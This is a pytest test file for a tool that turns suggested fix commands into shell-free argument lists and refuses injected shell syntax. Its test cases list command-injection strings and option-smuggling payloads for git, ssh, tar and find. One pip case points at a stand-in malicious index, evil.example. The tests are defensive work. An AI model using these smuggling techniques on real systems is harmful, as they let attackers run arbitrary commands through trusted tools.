"""Suggestions become argument lists without a shell; names that look like syntax or options run nothing."""

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from console.actions.fix import Plan, UnfitError, plan, split
from console.actions.fix.words import ShellNeededError
from console.model.failure import Risk, Suggestion


def suggestion(argv: tuple[str, ...], verify: str = "") -> Suggestion:
    return Suggestion(
        rule="r", argv=argv, command=shlex.join(argv), confidence=0.8, risk=Risk.SAFE, why="it helps", verify=verify
    )


def test_a_plain_command_and_its_verifier():
    assert plan(suggestion(("npm", "install"), verify="npm test -- -q")) == Plan(
        (("npm", "install"),), ("npm", "test", "--", "-q")
    )
    assert plan(suggestion(("pytest",), verify="pytest")).verify == ()
    assert plan(suggestion(("pytest",), verify="look at $HOME")).verify == ()


def test_a_chain_for_a_shell_becomes_steps():
    assert plan(suggestion(("sh", "-c", "pip install 'a b' && pytest -q"))).steps == (
        ("pip", "install", "a b"), ("pytest", "-q"),
    )  # fmt: skip


@pytest.mark.parametrize(
    "line",
    [
        "git push; touch PWNED", "echo $(touch PWNED)", "echo `touch PWNED`", 'echo "$(touch PWNED)"', "a | b", "a > b",
        "a & b", "rm *", "cat ~/x", "X=1 a", "a &&", "&& a", "echo 'open", "a\ntouch PWNED", "{ a", "a ||b", "", "# a",
        "a \\",
    ],
)  # fmt: skip
def test_what_only_a_shell_understands_is_refused(line):
    with pytest.raises(UnfitError, match="shell"):
        plan(suggestion(("sh", "-c", line)))


@pytest.mark.parametrize(
    "name", ['"; touch PWNED #', "$(touch PWNED)", "`touch PWNED`", "a && touch PWNED", "'; touch PWNED; '"]
)
def test_a_name_with_shell_syntax_stays_one_word(name):
    assert plan(suggestion(("git", "checkout", name))).steps == (("git", "checkout", name),)
    quoted = f"git fetch && git checkout {shlex.quote(name)}"
    assert plan(suggestion(("sh", "-c", quoted))).steps[1] == ("git", "checkout", name)


@pytest.mark.parametrize(
    "argv",
    [
        ("git", "fetch", "--upload-pack=touch PWNED", "origin"),
        ("git", "fetch", "--upload-pa", "touch PWNED"),
        ("git", "-ccore.fsmonitor=touch PWNED", "status"),
        ("git", "clone", "ext::sh -c touch PWNED"),
        ("ssh", "-oProxyCommand=touch PWNED", "h"),
        ("tar", "xf", "a", "--to-command=touch PWNED"),
        ("find", ".", "-exec", "touch", "PWNED", ";"),
        ("python3", "-c", "open('PWNED', 'w')"),
        ("bash", "-c", "touch PWNED"),
        ("/usr/bin/env", "touch", "PWNED"),
        ("pip", "install", "--index-url=http://evil.example", "x"),
    ],
)
def test_an_option_that_runs_something_else_is_refused_unless_the_person_gave_it(argv):
    with pytest.raises(UnfitError):
        plan(suggestion(argv))
    assert plan(suggestion(argv), failed=argv).steps == (argv,)


def test_ordinary_options_are_no_smuggling():
    for words in ("git push -u origin main", "git switch -c new", "npm install --save-dev x", "make -C sub all"):
        assert plan(suggestion(tuple(words.split()))).steps == (tuple(words.split()),)


def test_nothing_too_much_and_something_at_all():
    for argv in ((), ("",), ("a\0b",), ("sh", "-c", " && ".join(["true"] * 9))):
        with pytest.raises(UnfitError):
            plan(suggestion(argv))


@given(st.lists(st.text(st.characters(blacklist_characters="\0\n\r", blacklist_categories=("Cs",))), min_size=1))
def test_what_was_quoted_comes_back_as_it_was(words):
    words = ["run", *words]
    assert split(shlex.join(words)) == (tuple(words),)


@given(st.text(st.sampled_from("ab '\"\\|;"), max_size=12))
def test_any_line_is_split_as_a_shell_would_or_refused(line):
    try:
        commands = split(line)
    except ShellNeededError:
        return
    assert commands == (tuple(shlex.split(line)),)
